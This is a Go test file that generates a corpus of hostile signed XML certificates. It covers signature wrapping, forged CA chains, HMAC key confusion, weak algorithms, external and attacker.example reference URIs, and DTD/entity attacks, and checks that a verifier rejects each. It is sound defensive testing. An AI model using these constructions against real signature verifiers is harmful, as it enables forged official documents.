package certs

import (
	"bytes"
	"context"
	"crypto"
	"crypto/hmac"
	"crypto/md5"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"flag"
	"fmt"
	"hash"
	"math/big"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/beevik/etree"
	dsig "github.com/russellhaering/goxmldsig"
	"github.com/russellhaering/goxmldsig/etreeutils"

	"github.com/vucelink/vucelink/xmlsafe"
)

// The hostile corpus: testdata/hostile holds one signed (or almost signed)
// document per attack, written by generateHostileCorpus with a fixed
// development PKI (testdata/hostile/keys). RSA PKCS#1 v1.5 signatures are
// deterministic, so regenerating with the same keys rewrites the same bytes:
//
//	go test ./certs/ -run TestVerify_HostileCorpus -regen
//
// Keys are created only when testdata/hostile/keys is missing; their
// certificates run from 2026 to 2046 (the expired and not-yet-valid signers
// excepted) and the corpus is verified at a fixed time, so it never expires.
var regenHostile = flag.Bool("regen", false, "rewrite testdata/hostile from its generator (creates keys only if missing)")

const (
	hostileDir     = "testdata/hostile"
	hostileKeysDir = "testdata/hostile/keys"
	hostileID      = "CL-2026-000123"
	hostileRootID  = "sps-CL-2026-000123"
)

// hostileNow is the corpus's verification time.
var hostileNow = time.Date(2030, 6, 1, 0, 0, 0, 0, time.UTC)

// hostileLimits are tighter than the defaults so the size attacks stay
// small enough to commit; every other file is well inside them.
var hostileLimits = xmlsafe.Limits{MaxBytes: 16 << 10, MaxElements: 1000}

// hostileCorpus is the expectation for every file in testdata/hostile. A nil
// error means the document must verify, and the signed ram:ID must read
// exactly hostileID afterwards.
var hostileCorpus = []struct {
	file string
	want error
}{
	// Baselines: the corpus's keys, time and limits accept a genuine document.
	{"valid.xml", nil},
	{"valid-id-reference.xml", nil},

	// Signature wrapping.
	{"xsw-moved-root.xml", ErrReference},
	{"xsw-signature-hoisted.xml", ErrReference},
	{"xsw-duplicate-id.xml", ErrReference},
	{"xsw-duplicate-id-in-keyinfo.xml", ErrReference},
	{"xsw-copied-into-object.xml", ErrReference},
	{"xsw-unsigned-object.xml", ErrReference},
	{"xsw-copied-element-beside-attacker-content.xml", ErrBadSignature},
	// XML allows neither; the parser refuses them before the signature is
	// looked at (VerifyElement refuses them with ErrReference).
	{"second-root-after.xml", xmlsafe.ErrMalformed},
	{"second-root-before.xml", xmlsafe.ErrMalformed},
	{"text-after-root.xml", xmlsafe.ErrMalformed},
	{"signature-not-child-of-root.xml", ErrReference},
	{"reference-to-child-element.xml", ErrReference},
	{"reference-external-uri.xml", ErrReference},
	{"reference-xpointer.xml", ErrReference},
	{"two-references.xml", ErrReference},
	{"transform-enveloped-missing.xml", ErrReference},
	{"two-signatures.xml", ErrMultipleSignatures},
	{"two-signatures-nested.xml", ErrMultipleSignatures},
	{"no-signature.xml", ErrNoSignature},
	{"signature-wrong-namespace.xml", ErrNoSignature},

	// Algorithm policy.
	{"transform-xpath.xml", ErrAlgorithm},
	{"transform-xpath-filter2.xml", ErrAlgorithm},
	{"transform-xslt.xml", ErrAlgorithm},
	{"transform-base64.xml", ErrAlgorithm},
	{"transform-enveloped-twice.xml", ErrAlgorithm},
	{"transform-order-reversed.xml", ErrAlgorithm},
	{"digest-sha1.xml", ErrAlgorithm},
	{"signature-method-rsa-sha1.xml", ErrAlgorithm},
	{"signature-method-rsa-sha512.xml", ErrAlgorithm}, // sound, but outside the policy
	{"signature-method-rsa-md5.xml", ErrAlgorithm},
	{"signature-method-hmac-sha256-public-key.xml", ErrAlgorithm},
	{"signature-method-hmac-sha1-truncated.xml", ErrAlgorithm},
	{"c14n-exclusive-with-comments-transform.xml", ErrAlgorithm},
	{"c14n-exclusive-with-comments-signedinfo.xml", ErrAlgorithm},

	// Ambiguous signature structure (what this package checks and what
	// goxmldsig uses could differ).
	{"signature-method-duplicated.xml", ErrMalformed},
	{"algorithm-attribute-namespaced.xml", ErrMalformed},
	{"reference-uri-namespaced.xml", ErrMalformed},
	{"transforms-duplicated.xml", ErrMalformed},
	{"keyinfo-x509data-duplicated.xml", ErrMalformed},
	{"signature-value-empty.xml", ErrMalformed},
	{"signature-value-missing.xml", ErrMalformed},

	// The signer.
	{"keyinfo-missing.xml", ErrUntrustedSigner},
	{"keyinfo-cert-from-other-ca.xml", ErrUntrustedSigner},
	{"keyinfo-forged-ca-chain.xml", ErrUntrustedSigner},
	{"signer-key-not-for-signing.xml", ErrUntrustedSigner},
	{"signer-expired.xml", ErrExpired},
	{"signer-not-yet-valid.xml", ErrNotYetValid},
	{"signer-not-authorized.xml", ErrNotAuthorized},
	{"keyinfo-cert-swapped.xml", ErrBadSignature},

	// Tampering.
	{"content-tampered.xml", ErrBadSignature},
	{"digest-tampered.xml", ErrBadSignature},
	{"signedinfo-tampered.xml", ErrBadSignature},
	{"signature-value-tampered.xml", ErrBadSignature},

	// Injection inside signed values. Comments, CDATA and character
	// references are not part of the canonical form: the signature holds,
	// and what callers get is the signed value. Whitespace and processing
	// instructions are: the signature breaks.
	{"comment-in-signed-value.xml", nil},
	{"cdata-in-signed-value.xml", nil},
	{"charref-in-signed-value.xml", nil},
	{"whitespace-in-signed-value.xml", ErrBadSignature},
	{"pi-in-signed-value.xml", ErrBadSignature},

	// The parser: refused before any tree is built.
	{"doctype.xml", xmlsafe.ErrDTD},
	{"dtd-external.xml", xmlsafe.ErrDTD},
	{"dtd-attlist-id.xml", xmlsafe.ErrDTD},
	{"entity-internal.xml", xmlsafe.ErrEntity},
	{"entity-external-system.xml", xmlsafe.ErrEntity},
	{"entity-parameter.xml", xmlsafe.ErrEntity},
	{"billion-laughs.xml", xmlsafe.ErrEntity},
	{"too-deep.xml", xmlsafe.ErrTooDeep},
	{"too-many-elements.xml", xmlsafe.ErrTooManyElements},
	{"too-large.xml", xmlsafe.ErrTooLarge},
	{"malformed-xml.xml", xmlsafe.ErrMalformed},
}

// allVerifyErrors are the sentinels a verification error may wrap.
var allVerifyErrors = []error{
	ErrMalformed, ErrNoSignature, ErrMultipleSignatures, ErrAlgorithm, ErrReference,
	ErrBadSignature, ErrUntrustedSigner, ErrExpired, ErrNotYetValid, ErrNotAuthorized,
	xmlsafe.ErrDTD, xmlsafe.ErrEntity, xmlsafe.ErrTooLarge, xmlsafe.ErrTooDeep,
	xmlsafe.ErrTooManyElements, xmlsafe.ErrTooManyAttrs, xmlsafe.ErrMalformed,
}

func TestVerify_HostileCorpus(t *testing.T) {
	if *regenHostile {
		writeHostileCorpus(t)
	}
	pki := loadHostilePKI(t)
	v := pki.verifier()

	entries, err := os.ReadDir(hostileDir)
	if err != nil {
		t.Fatal(err)
	}
	listed := map[string]bool{}
	for _, c := range hostileCorpus {
		if listed[c.file] {
			t.Errorf("%s is listed twice", c.file)
		}
		listed[c.file] = true
	}
	onDisk := map[string]bool{}
	for _, e := range entries {
		if e.IsDir() && e.Name() == "keys" {
			continue
		}
		onDisk[e.Name()] = true
		if !listed[e.Name()] {
			t.Errorf("%s/%s has no expectation in hostileCorpus", hostileDir, e.Name())
		}
	}

	// Every file goes through each path: Verify, where what vucelink signs
	// is checked without goxmldsig (verifyExclusive) and the parsed tree is
	// the result; VerifyElement on a tree the caller keeps, which must be
	// left as it was; and goxmldsig for every signature.
	paths := []struct {
		name   string
		verify func(v *Verifier, data []byte) (*Verified, error)
		legacy bool
	}{
		{"Verify", func(v *Verifier, data []byte) (*Verified, error) { return v.Verify(context.Background(), data) }, false},
		{"VerifyElement", func(v *Verifier, data []byte) (*Verified, error) {
			doc, err := xmlsafe.Parse(data, v.Limits)
			if err != nil {
				return nil, err
			}
			before, _ := doc.WriteToString()
			got, err := v.VerifyElement(context.Background(), doc.Root())
			if after, _ := doc.WriteToString(); after != before {
				return nil, fmt.Errorf("VerifyElement changed the tree it was given:\n%s", after)
			}
			return got, err
		}, false},
		{"goxmldsig", func(v *Verifier, data []byte) (*Verified, error) { return v.Verify(context.Background(), data) }, true},
	}
	for _, path := range paths {
		pv := *v
		pv.viaGoxmldsig = path.legacy
		for _, c := range hostileCorpus {
			t.Run(path.name+"/"+strings.TrimSuffix(c.file, ".xml"), func(t *testing.T) {
				if !onDisk[c.file] {
					t.Fatalf("%s/%s is missing (go test ./certs/ -run TestVerify_HostileCorpus -regen)", hostileDir, c.file)
				}
				data, err := os.ReadFile(filepath.Join(hostileDir, c.file))
				if err != nil {
					t.Fatal(err)
				}
				got, err := path.verify(&pv, data)
				if c.want == nil {
					if err != nil {
						t.Fatalf("rejected: %v", err)
					}
					checkVerified(t, got, pki)
					return
				}
				if !errors.Is(err, c.want) {
					t.Fatalf("err = %v\nwant errors.Is(err, %q)", err, c.want)
				}
				if n := sentinelsIn(err); n != 1 {
					t.Errorf("err %v wraps %d sentinels, want exactly one", err, n)
				}
				if got != nil {
					t.Error("a verified element was returned together with the error")
				}
			})
		}
	}
}

// checkVerified asserts what callers may rely on after a successful Verify.
func checkVerified(t *testing.T, got *Verified, pki *hostilePKI) {
	t.Helper()
	if got == nil || got.Element == nil {
		t.Fatal("no verified element")
	}
	if got.Signer.Subject.CommonName != "Ana Pérez Soto" {
		t.Errorf("signer %v", got.Signer.Subject)
	}
	if len(got.Chain) == 0 || !got.Chain[len(got.Chain)-1].Equal(pki.ca.cert) {
		t.Error("chain does not end at the corpus CA")
	}
	if hasSignatureElement(got.Element) {
		t.Error("verified element still carries a ds:Signature")
	}
	if err := plainTree(got.Element); err != nil {
		t.Error(err)
	}
	id := got.Element.FindElement("./rsm:SPSExchangedDocument/ram:ID")
	if id == nil {
		t.Fatal("verified element has no SPSExchangedDocument/ID")
	}
	// One text node holding exactly the signed value: no comment, CDATA
	// section or processing instruction survives to split or extend it.
	if len(id.Child) != 1 {
		t.Errorf("ram:ID has %d child tokens, want 1 text node", len(id.Child))
	}
	if got := id.Text(); got != hostileID {
		t.Errorf("ram:ID reads %q after verification, want the signed %q", got, hostileID)
	}
}

// sentinelsIn counts the sentinels err matches, a refined sentinel
// (ErrNotYetValid, which also matches ErrExpired) counting once.
func sentinelsIn(err error) int {
	n := 0
	for _, s := range allVerifyErrors {
		if errors.Is(err, s) {
			n++
		}
	}
	if errors.Is(err, ErrNotYetValid) {
		n--
	}
	return n
}

func hasSignatureElement(e *etree.Element) bool {
	if e.Tag == dsig.SignatureTag && e.NamespaceURI() == dsig.Namespace {
		return true
	}
	return slices.ContainsFunc(e.ChildElements(), hasSignatureElement)
}

// ---- the fixed development PKI ----

type hostileKey struct {
	cert *x509.Certificate
	key  crypto.Signer
}

type hostilePKI struct {
	ca, otherCA, forgedCA                                     *hostileKey
	official, stranger, expired, notYet, tls, foreign, forged *hostileKey
}

type hostileKeySpec struct {
	name, cn, org, country, issuer string
	from, to                       int // years, January 1st UTC
	ca                             bool
	usage                          x509.KeyUsage
	ext                            []x509.ExtKeyUsage
}

const signing = x509.KeyUsageDigitalSignature | x509.KeyUsageContentCommitment

// Issuers come before what they issue.
var hostileKeySpecs = []hostileKeySpec{
	{name: "ca", cn: "CL Root CA (development)", org: "vucelink dev", country: "CL", from: 2026, to: 2046, ca: true},
	{name: "official", cn: "Ana Pérez Soto", org: "SAG", country: "CL", issuer: "ca", from: 2026, to: 2046, usage: signing},
	{name: "stranger", cn: "Not Listed", org: "SAG", country: "CL", issuer: "ca", from: 2026, to: 2046, usage: signing},
	{name: "expired", cn: "Old Official", org: "SAG", country: "CL", issuer: "ca", from: 2026, to: 2027, usage: signing},
	{name: "notyet", cn: "Future Official", org: "SAG", country: "CL", issuer: "ca", from: 2035, to: 2046, usage: signing},
	{name: "tls", cn: "vucelink CL server", org: "vucelink dev", country: "CL", issuer: "ca", from: 2026, to: 2046,
		usage: x509.KeyUsageKeyEncipherment, ext: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}},
	{name: "other-ca", cn: "PE Root CA (development)", org: "vucelink dev", country: "PE", from: 2026, to: 2046, ca: true},
	{name: "foreign", cn: "Jorge Quispe Mamani", org: "SENASA", country: "PE", issuer: "other-ca", from: 2026, to: 2046, usage: signing},
	// An attacker's CA with the very name of the CL root, and an official
	// with the very name of the CL official.
	{name: "forged-ca", cn: "CL Root CA (development)", org: "vucelink dev", country: "CL", from: 2026, to: 2046, ca: true},
	{name: "forged", cn: "Ana Pérez Soto", org: "SAG", country: "CL", issuer: "forged-ca", from: 2026, to: 2046, usage: signing},
}

func loadHostilePKI(t testing.TB) *hostilePKI {
	t.Helper()
	keys := map[string]*hostileKey{}
	for _, s := range hostileKeySpecs {
		base := filepath.Join(hostileKeysDir, s.name)
		certs, err := LoadCertificates(base + ".pem")
		if err != nil {
			t.Fatalf("%v (go test ./certs/ -run TestVerify_HostileCorpus -regen)", err)
		}
		key, err := LoadPrivateKey(base + ".key")
		if err != nil {
			t.Fatal(err)
		}
		keys[s.name] = &hostileKey{cert: certs[0], key: key}
	}
	return &hostilePKI{
		ca: keys["ca"], otherCA: keys["other-ca"], forgedCA: keys["forged-ca"],
		official: keys["official"], stranger: keys["stranger"], expired: keys["expired"],
		notYet: keys["notyet"], tls: keys["tls"], foreign: keys["foreign"], forged: keys["forged"],
	}
}

// verifier verifies as the importing country would at hostileNow: it trusts
// the CL root and every CL-looking signer but "stranger" is an official.
func (p *hostilePKI) verifier() *Verifier {
	roots := x509.NewCertPool()
	roots.AddCert(p.ca.cert)
	officials := NewOfficials()
	for _, k := range []*hostileKey{p.official, p.expired, p.notYet, p.tls, p.foreign, p.forged} {
		officials.Add(k.cert, "sps")
	}
	return &Verifier{
		Roots:     roots,
		Authorize: func(c *x509.Certificate) error { return officials.Authorize(c, "sps") },
		Now:       func() time.Time { return hostileNow },
		Limits:    hostileLimits,
	}
}

// writeHostileKeys creates the PKI. It never overwrites: the corpus's
// signatures depend on these exact keys.
func writeHostileKeys(t *testing.T) {
	t.Helper()
	if _, err := os.Stat(hostileKeysDir); err == nil {
		return
	}
	if err := os.MkdirAll(hostileKeysDir, 0o755); err != nil {
		t.Fatal(err)
	}
	issued := map[string]*hostileKey{}
	for _, s := range hostileKeySpecs {
		key, err := rsa.GenerateKey(rand.Reader, 2048)
		if err != nil {
			t.Fatal(err)
		}
		serial, err := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), 127))
		if err != nil {
			t.Fatal(err)
		}
		tmpl := &x509.Certificate{
			SerialNumber: serial,
			Subject:      pkix.Name{CommonName: s.cn, Organization: []string{s.org}, Country: []string{s.country}},
			NotBefore:    time.Date(s.from, 1, 1, 0, 0, 0, 0, time.UTC),
			NotAfter:     time.Date(s.to, 1, 1, 0, 0, 0, 0, time.UTC),
			KeyUsage:     s.usage,
			ExtKeyUsage:  s.ext,
		}
		if s.ca {
			tmpl.KeyUsage = x509.KeyUsageCertSign | x509.KeyUsageCRLSign
			tmpl.BasicConstraintsValid, tmpl.IsCA, tmpl.MaxPathLen = true, true, 1
		}
		parent, parentKey := tmpl, crypto.Signer(key)
		if s.issuer != "" {
			parent, parentKey = issued[s.issuer].cert, issued[s.issuer].key
		}
		der, err := x509.CreateCertificate(rand.Reader, tmpl, parent, &key.PublicKey, parentKey)
		if err != nil {
			t.Fatal(err)
		}
		cert, err := x509.ParseCertificate(der)
		if err != nil {
			t.Fatal(err)
		}
		issued[s.name] = &hostileKey{cert: cert, key: key}
		keyDER, err := x509.MarshalPKCS8PrivateKey(key)
		if err != nil {
			t.Fatal(err)
		}
		base := filepath.Join(hostileKeysDir, s.name)
		if err := errors.Join(
			os.WriteFile(base+".pem", pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o644),
			os.WriteFile(base+".key", pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: keyDER}), 0o644),
		); err != nil {
			t.Fatal(err)
		}
	}
}

func writeHostileCorpus(t *testing.T) {
	t.Helper()
	writeHostileKeys(t)
	files := generateHostileCorpus(t, loadHostilePKI(t))
	old, err := filepath.Glob(filepath.Join(hostileDir, "*.xml"))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range old {
		if err := os.Remove(f); err != nil {
			t.Fatal(err)
		}
	}
	for name, data := range files {
		if err := os.WriteFile(filepath.Join(hostileDir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	t.Logf("wrote %d files to %s", len(files), hostileDir)
}

// ---- building attacks ----

const (
	xmlDecl     = `<?xml version="1.0" encoding="UTF-8"?>` + "\n"
	rootStart   = "<rsm:SPSCertificate "
	algSHA1     = "http://www.w3.org/2000/09/xmldsig#sha1"
	algRSAMD5   = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"
	algHMACSHA1 = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
	algHMAC256  = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
	algXPath    = "http://www.w3.org/TR/1999/REC-xpath-19991116"
	algXPath2   = "http://www.w3.org/2002/06/xmldsig-filter2"
	algXSLT     = "http://www.w3.org/TR/1999/REC-xslt-19991116"
	algBase64   = "http://www.w3.org/2000/09/xmldsig#base64"
)

// evil rewrites the business content the way an attacker would want it.
func evil(b []byte) []byte {
	b = bytes.Replace(b, []byte("Frutas del Norte S.A. de C.V."), []byte("Evil Corp"), 1)
	return bytes.Replace(b, []byte(">12500.5<"), []byte(">99999.9<"), 1)
}

func hostileParse(t *testing.T, data []byte) *etree.Document {
	t.Helper()
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(data); err != nil {
		t.Fatal(err)
	}
	return doc
}

func hostileWrite(t *testing.T, doc *etree.Document) []byte {
	t.Helper()
	b, err := doc.WriteToBytes()
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// edit parses a document, lets f change it, and serializes it again.
func edit(t *testing.T, data []byte, f func(root, sig *etree.Element)) []byte {
	t.Helper()
	doc := hostileParse(t, data)
	f(doc.Root(), ds(doc.Root(), dsig.SignatureTag))
	return hostileWrite(t, doc)
}

// ds returns e's first child in the XMLDSIG namespace with the given tag.
func ds(e *etree.Element, tag string) *etree.Element { return child(e, tag) }

func dsPath(e *etree.Element, tags ...string) *etree.Element {
	for _, tag := range tags {
		e = ds(e, tag)
	}
	return e
}

func newDS(tag string, attrs ...string) *etree.Element {
	e := etree.NewElement("ds:" + tag)
	for i := 0; i+1 < len(attrs); i += 2 {
		e.CreateAttr(attrs[i], attrs[i+1])
	}
	return e
}

// withoutDecl returns a document's bytes from its root element on.
func withoutDecl(b []byte) []byte { return b[bytes.Index(b, []byte("<rsm:")):] }

// detached returns a copy of el that declares the namespaces it uses, to be
// moved into another document.
func detached(t *testing.T, el *etree.Element) *etree.Element {
	t.Helper()
	nsCtx, err := etreeutils.NSBuildParentContext(el)
	if err != nil {
		t.Fatal(err)
	}
	d, err := etreeutils.NSDetatch(nsCtx, el)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// sign signs data with k, the certificate chain given after it in KeyInfo.
func (k *hostileKey) sign(t *testing.T, data []byte, chain ...*x509.Certificate) []byte {
	t.Helper()
	s, err := NewSigner(k.key, append([]*x509.Certificate{k.cert}, chain...)...)
	if err != nil {
		t.Fatal(err)
	}
	doc := hostileParse(t, data) // not xmlsafe: some attacks exceed its limits on purpose
	el, err := s.SignElement(doc.Root())
	if err != nil {
		t.Fatal(err)
	}
	doc.SetRoot(el)
	return hostileWrite(t, doc)
}

// signatureOver builds a genuine enveloped signature over el, as goxmldsig
// would place it inside el, without placing it.
func (k *hostileKey) signatureOver(t *testing.T, el *etree.Element) *etree.Element {
	t.Helper()
	ctx, err := dsig.NewSigningContext(k.key, [][]byte{k.cert.Raw})
	if err != nil {
		t.Fatal(err)
	}
	ctx.Canonicalizer = dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("")
	sig, err := ctx.ConstructSignature(detached(t, el), true)
	if err != nil {
		t.Fatal(err)
	}
	return sig
}

// seal says how reseal recomputes a signature after an edit. Zero values
// mean what Signer does: SHA-256 digest and RSA-SHA256 over exclusive C14N.
type seal struct {
	digest     crypto.Hash
	refC14N    dsig.Canonicalizer
	keepDigest bool
	siC14N     dsig.Canonicalizer
	signature  func(t *testing.T, signedInfo []byte) []byte
}

// reseal lets edit change a signed document, then recomputes the reference
// digest and the SignatureValue as a signer holding k's key would: the
// result is cryptographically sound, so only the policy can reject it.
func (k *hostileKey) reseal(t *testing.T, data []byte, s seal, f func(root, sig *etree.Element)) []byte {
	t.Helper()
	doc := hostileParse(t, data)
	root := doc.Root()
	sig := ds(root, dsig.SignatureTag)
	if f != nil {
		f(root, sig)
	}
	si := ds(sig, dsig.SignedInfoTag)
	if !s.keepDigest {
		h, canon := s.digest, s.refC14N
		if h == 0 {
			h = crypto.SHA256
		}
		if canon == nil {
			canon = dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("")
		}
		content := root.Copy()
		for _, c := range content.ChildElements() {
			if c.Tag == dsig.SignatureTag && c.NamespaceURI() == dsig.Namespace {
				content.RemoveChild(c)
			}
		}
		canonical, err := canon.Canonicalize(content)
		if err != nil {
			t.Fatal(err)
		}
		d := h.New()
		d.Write(canonical)
		for _, ref := range si.ChildElements() {
			if ref.Tag == dsig.ReferenceTag {
				ds(ref, dsig.DigestValueTag).SetText(base64.StdEncoding.EncodeToString(d.Sum(nil)))
			}
		}
	}
	canon := s.siC14N
	if canon == nil {
		canon = dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("")
	}
	nsCtx, err := etreeutils.NSBuildParentContext(si)
	if err != nil {
		t.Fatal(err)
	}
	detached, err := etreeutils.NSDetatch(nsCtx, si)
	if err != nil {
		t.Fatal(err)
	}
	canonical, err := canon.Canonicalize(detached)
	if err != nil {
		t.Fatal(err)
	}
	signFn := s.signature
	if signFn == nil {
		signFn = k.rsa(crypto.SHA256)
	}
	ds(sig, dsig.SignatureValueTag).SetText(base64.StdEncoding.EncodeToString(signFn(t, canonical)))
	return hostileWrite(t, doc)
}

func (k *hostileKey) rsa(h crypto.Hash) func(*testing.T, []byte) []byte {
	return func(t *testing.T, data []byte) []byte {
		var sum []byte
		switch h {
		case crypto.MD5:
			s := md5.Sum(data)
			sum = s[:]
		case crypto.SHA1:
			s := sha1.Sum(data)
			sum = s[:]
		default:
			d := h.New()
			d.Write(data)
			sum = d.Sum(nil)
		}
		out, err := rsa.SignPKCS1v15(nil, k.key.(*rsa.PrivateKey), h, sum)
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
}

// hmacSig is the key-confusion attack: an HMAC keyed with the signer's
// public key, which anybody has, truncated to n bytes if n > 0.
func hmacSig(newHash func() hash.Hash, key []byte, n int) func(*testing.T, []byte) []byte {
	return func(_ *testing.T, data []byte) []byte {
		m := hmac.New(newHash, key)
		m.Write(data)
		out := m.Sum(nil)
		if n > 0 {
			out = out[:n]
		}
		return out
	}
}

func generateHostileCorpus(t *testing.T, p *hostilePKI) map[string][]byte {
	t.Helper()
	base, err := os.ReadFile("testdata/sps.xml")
	if err != nil {
		t.Fatal(err)
	}
	withID := bytes.Replace(base, []byte(rootStart), []byte(rootStart+`ID="`+hostileRootID+`" `), 1)
	withConsignmentID := bytes.Replace(base, []byte("<rsm:SPSConsignment>"), []byte(`<rsm:SPSConsignment ID="consignment">`), 1)
	valid := p.official.sign(t, base)
	validID := p.official.sign(t, withID)
	validCons := p.official.sign(t, withConsignmentID)
	pubDER, err := x509.MarshalPKIXPublicKey(p.official.key.Public())
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	add := func(name string, b []byte) {
		if _, dup := out[name]; dup {
			t.Fatalf("%s generated twice", name)
		}
		out[name] = b
	}
	replaceOnce := func(b []byte, old, new string) []byte {
		if !bytes.Contains(b, []byte(old)) {
			t.Fatalf("%q not found", old)
		}
		return bytes.Replace(b, []byte(old), []byte(new), 1)
	}
	// stripSig removes the root's signature and returns it.
	stripSig := func(root *etree.Element) *etree.Element {
		sig := ds(root, dsig.SignatureTag)
		root.RemoveChild(sig)
		return sig
	}
	transforms := func(sig *etree.Element) *etree.Element {
		return dsPath(sig, dsig.SignedInfoTag, dsig.ReferenceTag, dsig.TransformsTag)
	}
	insertTransform := func(tr *etree.Element) func(_, sig *etree.Element) {
		return func(_, sig *etree.Element) { transforms(sig).InsertChildAt(1, tr) }
	}

	add("valid.xml", valid)
	add("valid-id-reference.xml", validID)

	// --- signature wrapping ---

	// The genuinely signed root, signature and all, moved under an
	// attacker's root carrying other content.
	add("xsw-moved-root.xml", func() []byte {
		doc := hostileParse(t, evil(base))
		doc.Root().CreateElement("rsm:Wrapper").AddChild(hostileParse(t, valid).Root())
		return hostileWrite(t, doc)
	}())
	// The signature hoisted to an attacker's root; the signed original
	// (which it references by ID) nested below.
	add("xsw-signature-hoisted.xml", func() []byte {
		doc := hostileParse(t, evil(base))
		orig := hostileParse(t, validID).Root()
		sig := stripSig(orig)
		doc.Root().CreateElement("rsm:Wrapper").AddChild(orig)
		doc.Root().AddChild(sig)
		return hostileWrite(t, doc)
	}())
	// As above, but the attacker's root also carries the referenced ID.
	add("xsw-duplicate-id.xml", func() []byte {
		doc := hostileParse(t, evil(withID))
		orig := hostileParse(t, validID).Root()
		sig := stripSig(orig)
		doc.Root().CreateElement("rsm:Wrapper").AddChild(orig)
		doc.Root().AddChild(sig)
		return hostileWrite(t, doc)
	}())
	// A second element with the signed ID, where no digest covers it.
	add("xsw-duplicate-id-in-keyinfo.xml", edit(t, validID, func(_, sig *etree.Element) {
		kn := newDS("KeyName", "ID", hostileRootID)
		kn.SetText("decoy")
		ds(sig, dsig.KeyInfoTag).InsertChildAt(0, kn)
	}))
	// The attacker's content at the root, the signed original kept inside
	// the signature (ds:Object), where a careless verifier finds it.
	add("xsw-copied-into-object.xml", func() []byte {
		doc := hostileParse(t, evil(base))
		orig := hostileParse(t, valid).Root()
		sig := stripSig(orig)
		obj := newDS("Object")
		obj.AddChild(orig)
		sig.AddChild(obj)
		doc.Root().AddChild(sig)
		return hostileWrite(t, doc)
	}())
	// A genuine, untouched signature carrying unsigned content in an
	// Object: the enveloped transform removes it from the digest.
	add("xsw-unsigned-object.xml", edit(t, valid, func(_, sig *etree.Element) {
		cons := detached(t, hostileParse(t, evil(base)).Root().FindElement("rsm:SPSConsignment"))
		obj := newDS("Object")
		obj.AddChild(cons)
		sig.AddChild(obj)
	}))
	// The attacker's consignment copied next to the signed one, first, for
	// a consumer that reads the first match.
	add("xsw-copied-element-beside-attacker-content.xml", edit(t, valid, func(root, _ *etree.Element) {
		cons := detached(t, hostileParse(t, evil(base)).Root().FindElement("rsm:SPSConsignment"))
		root.InsertChildAt(root.FindElement("rsm:SPSConsignment").Index(), cons)
	}))
	evilRoot := withoutDecl(evil(base))
	add("second-root-after.xml", append(append(slices.Clone(valid), '\n'), evilRoot...))
	add("second-root-before.xml", append(append([]byte(xmlDecl), evilRoot...), withoutDecl(valid)...))
	add("text-after-root.xml", append(slices.Clone(valid), "ConsigneeSPSParty: Evil Corp\n"...))
	add("signature-not-child-of-root.xml", edit(t, valid, func(root, sig *etree.Element) {
		root.RemoveChild(sig)
		root.FindElement("rsm:SPSExchangedDocument").AddChild(sig)
	}))
	// A genuine signature over the consignment only, placed at the root.
	add("reference-to-child-element.xml", func() []byte {
		doc := hostileParse(t, withConsignmentID)
		doc.Root().AddChild(p.official.signatureOver(t, doc.Root().FindElement("rsm:SPSConsignment")))
		return hostileWrite(t, doc)
	}())
	add("reference-external-uri.xml", p.official.reseal(t, valid, seal{}, func(_, sig *etree.Element) {
		dsPath(sig, dsig.SignedInfoTag, dsig.ReferenceTag).CreateAttr("URI", "https://attacker.example/sps.xml")
	}))
	add("reference-xpointer.xml", p.official.reseal(t, valid, seal{}, func(_, sig *etree.Element) {
		dsPath(sig, dsig.SignedInfoTag, dsig.ReferenceTag).CreateAttr("URI", "#xpointer(/)")
	}))
	add("two-references.xml", p.official.reseal(t, validCons, seal{}, func(_, sig *etree.Element) {
		si := ds(sig, dsig.SignedInfoTag)
		extra := ds(si, dsig.ReferenceTag).Copy()
		extra.CreateAttr("URI", "#consignment")
		si.AddChild(extra)
	}))
	add("transform-enveloped-missing.xml", p.official.reseal(t, valid, seal{}, func(_, sig *etree.Element) {
		ts := transforms(sig)
		ts.RemoveChildAt(ts.ChildElements()[0].Index())
	}))
	add("two-signatures.xml", p.official.sign(t, valid))
	// A genuine signature over the consignment inside it, then the whole
	// document signed: a signature the root signature covers.
	add("two-signatures-nested.xml", func() []byte {
		doc := hostileParse(t, withConsignmentID)
		cons := doc.Root().FindElement("rsm:SPSConsignment")
		cons.AddChild(p.official.signatureOver(t, cons))
		return p.official.sign(t, hostileWrite(t, doc))
	}())
	add("no-signature.xml", slices.Clone(base))
	add("signature-wrong-namespace.xml", replaceOnce(valid, `xmlns:ds="http://www.w3.org/2000/09/xmldsig#"`, `xmlns:ds="http://www.w3.org/2000/09/xmldsig"`))

	// --- algorithm policy ---

	xpath := newDS("Transform", "Algorithm", algXPath)
	xpath.CreateElement("ds:XPath").SetText("not(ancestor-or-self::ds:Signature)")
	add("transform-xpath.xml", p.official.reseal(t, valid, seal{}, insertTransform(xpath)))
	filter2 := newDS("Transform", "Algorithm", algXPath2)
	f2 := filter2.CreateElement("dsig-xpath:XPath")
	f2.CreateAttr("xmlns:dsig-xpath", algXPath2)
	f2.CreateAttr("Filter", "subtract")
	f2.SetText("//ds:Signature")
	add("transform-xpath-filter2.xml", p.official.reseal(t, valid, seal{}, insertTransform(filter2)))
	xslt := newDS("Transform", "Algorithm", algXSLT)
	sheet := xslt.CreateElement("xsl:stylesheet")
	sheet.CreateAttr("xmlns:xsl", "http://www.w3.org/1999/XSL/Transform")
	sheet.CreateAttr("version", "1.0")
	tmpl := sheet.CreateElement("xsl:template")
